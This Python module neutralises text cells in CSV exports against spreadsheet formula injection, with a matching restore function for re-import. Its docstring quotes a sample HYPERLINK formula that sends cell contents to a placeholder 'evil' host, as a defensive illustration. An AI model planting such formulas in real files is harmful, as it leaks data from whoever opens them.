"""Text cells of the CSV files we write, made safe to open in a spreadsheet.

Why: Excel, LibreOffice and Google Sheets run a cell that starts with ``=``, ``+``, ``-``
or ``@`` as a formula (also after a leading tab or carriage return), so a sensor
description such as ``=HYPERLINK("http://evil/?"&A1, "click")`` typed into the registry
would run on the machine of whoever opens the export (CSV injection, OWASP). A single
quote in front makes the spreadsheet show the text as text.

Only text is neutralised: numbers (a negative latitude, a reading of -3.5) are written
by the caller as numbers and never pass through here. The quote is undone on import
(``restore``) so an exported file imports back unchanged: a cell is neutralised when it
is a run of quotes followed by a trigger character, and restoring removes exactly one
quote from such a cell, so the two are inverse for every text.
"""

from __future__ import annotations

import re

#: OWASP's list: formula starters, and tab / carriage return before them.
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NEUTRALISED = re.compile(r"'+[=+\-@\t\r]")


def neutralise(cell: str) -> str:
    """``=1+1`` → ``'=1+1``; ``'=x`` → ``''=x`` (so ``restore`` gives it back); else as is."""
    if cell.startswith(TRIGGERS) or _NEUTRALISED.match(cell):
        return "'" + cell
    return cell


def restore(cell: str) -> str:
    """The inverse of ``neutralise`` for a cell read back from a file we wrote."""
    return cell[1:] if _NEUTRALISED.match(cell) else cell
